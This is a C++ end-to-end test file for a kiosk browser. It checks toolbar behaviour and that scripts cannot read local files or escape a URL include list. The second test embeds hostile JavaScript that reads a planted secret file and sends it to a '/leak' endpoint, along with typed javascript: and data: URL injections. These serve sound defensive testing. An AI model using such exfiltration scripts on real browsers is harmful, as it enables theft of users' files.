// The tool bars end to end: where they stand, what their buttons and address box do, and
// their help tips.

#include <thread>

#include "e2e/support/kiosk_fixture.h"

namespace pagelark::e2e {
namespace {

using std::chrono_literals::operator""s;

TEST_F(KioskTest, UnderAWindowManagerToolRunStaysOverTheShowShowsTipsAndTurnsThePage) {
    Process windowManager({.argv = {"openbox"},
                           .environment = xvfb_.Environment(),
                           .outputFile = folders_.File("openbox.log")});
    const auto managed = [&] {
        return RunCommand({"xprop", "-root", "_NET_SUPPORTING_WM_CHECK"}, xvfb_.Environment())
                   .output.find("window id") != std::string::npos;
    };
    ASSERT_TRUE(WaitUntil(managed, kPatience)) << "the window manager never started";

    // Two pages of a minute each: only a button turns the page this soon.
    Process& kiosk =
        Start("[Tessaro]\nDefaultTime=60\nOnMouseMove=0\n" + Pages({"/red", "/green"}));
    ASSERT_TRUE(Comes(kRed.rgb, kStartUp)) << "page 1 never came on show";
    // Drawn in the show's window with its own frame, where the window manager cannot move it.
    ASSERT_TRUE(WaitForRow(8)) << "no Tool Run over the full-screen show: " << RowFault(8);
    EXPECT_FALSE(Near(Pixel({kToolRunRow.x - 50, kCaptionBar / 2}), kRed.rgb)) << "no caption";
    // Still there once the show has settled in full screen.
    std::this_thread::sleep_for(3s);
    EXPECT_EQ(RowFault(8), "");

    // Next, the fourth of eight.
    const Point next{kToolRunRow.x - 5 * kButton + kButton / 2, kToolRunRow.y + kButton / 2};
    // The tip hangs 18 px below the pointer and starts 2 px left of it.
    const Point inTip{next.x - 2 + 5, next.y + 18 + 5}, leftOfTip{next.x - 3, inTip.y};
    ASSERT_TRUE(Shows(kRed.rgb, 0s, inTip)) << "a tip before the pointer came";
    MoveTo(next);
    EXPECT_TRUE(WaitUntil([&] { return !Shows(kRed.rgb, 0s, inTip); }, 10s)) << "no tip came";
    EXPECT_TRUE(Shows(kRed.rgb, 0s, leftOfTip)) << "the tip is out of place";
    MoveTo({300, 500});
    EXPECT_TRUE(Comes(kRed.rgb, 10s, inTip)) << "the tip stayed after the pointer left the bar";
    ClickAt(next);
    EXPECT_TRUE(Comes(kGreen.rgb, 15s)) << "Next did not turn the page";
    EXPECT_TRUE(kiosk.Running());
}

// A local page of the show, then typed addresses and pages of the server whose scripts try to
// leave the include list.
TEST_F(KioskTest, NoScriptReadsAnotherLocalFileOrLeavesTheIncludeListAndTypedScriptsRunNot) {
    folders_.Write("private/secret.txt", "top secret");
    // Yellow while it tries to read that file, then magenta when it could, green when not.
    const std::string page = folders_.Write(
        "local.html",
        WithServer("<body style=\"margin:0;height:100vh;background:#ffff00\"><script>"
                   "var read = false, x = new XMLHttpRequest();"
                   "try { x.open('GET', 'private/secret.txt', false); x.send();"
                   " read = x.responseText.indexOf('top secret') >= 0; } catch (e) {}"
                   "document.body.style.background = read ? '#ff00ff' : '#00ff00';"
                   "if (read) new Image().src = '{server}/leak?' + x.responseText;"
                   "addEventListener('click', function () {"
                   " location.href = '{server}/outside/magenta'; });</script></body>"));
    // A mouse move brings navigation mode, which lasts five minutes of idleness.
    Start("[Tessaro]\nDefaultTime=60\nOnMouseMove=1\nScreenSaveTimeOut=300\n[Page1]\nURL=" + page +
          "\n[Include1]\nURL=file://" + page +
          "\n[Include2]\nURL={server}/go\n[Include3]\nURL={server}/jslink\n"
          "[Include4]\nURL={server}/blob\n");
    ASSERT_TRUE(ComesOneOf({kGreen, kMagenta}, kStartUp))
        << "the local page never came on show: " << ToHex(Centre());
    EXPECT_TRUE(Shows(kGreen.rgb)) << "the local page read another file";
    ASSERT_TRUE(EnterNavigationMode()) << RowFault(9, kToolNavRow);
    Click();
    EXPECT_FALSE(server_.Requested("/outside", 5s)) << "the local page's script went outside";
    EXPECT_TRUE(Shows(kGreen.rgb));

    EnterAddress("javascript:document.body.style.background='#ff00ff';new Image().src='" +
                 server_.Url("/leak") + "'");
    EnterAddress("data:text/html,<body style=background:#ff00ff>");
    EnterAddress("about:blank");
    // The help folder passes the include list, but a folder that only starts like it does not.
    EnterAddress("file://" + folders_.Write("tmp/PagelarkEvil/page.html",
                                            "<body style=\"background:#ff00ff\"></body>"));
    EXPECT_FALSE(server_.Requested("/leak", 5s)) << "a typed script ran or a file was read";
    EXPECT_TRUE(Shows(kGreen.rgb));

    // The page's own script makes a page of its own and goes there; the page's own "javascript:"
    // link runs, but neither takes it outside the list.
    for (const auto& [target, color] :
         {std::pair{"/blob?color=red", kRed},
          {"/jslink?color=yellow&to=/outside/magenta", kYellow},
          {"/go?color=green&to=data:text/html,<b style=color:%23ff00ff>x", kGreen}}) {
        EnterAddress(server_.Url(target));
        ASSERT_TRUE(Comes(color.rgb, kPatience)) << target << " did not load";
        ClickAt({600, 450});
        EXPECT_TRUE(Shows(color.rgb, 3s)) << target;
    }
    EXPECT_FALSE(server_.Requested("/outside", 2s)) << "a script link went outside";
}

}  // namespace
}  // namespace pagelark::e2e
